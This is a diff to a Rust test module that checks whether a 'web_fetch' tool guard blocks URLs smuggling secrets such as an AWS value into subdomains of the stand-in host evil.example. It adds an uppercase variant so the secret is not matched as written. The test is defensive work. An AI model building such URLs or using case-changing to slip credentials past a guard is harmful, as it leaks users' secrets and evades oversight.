@@ -790,6 +790,8 @@ mod http {
         for url in [
             format!("https://{escaped}.evil.example/"),
             format!("https:////{aws}.evil.example/"),
+            // in another case, so that the guard does not find it as written
+            format!("https://{}.evil.example/", aws.to_uppercase()),
         ] {
             let err = edge
                 .prepare_request("web_fetch", ToolRequest::new("GET", url))
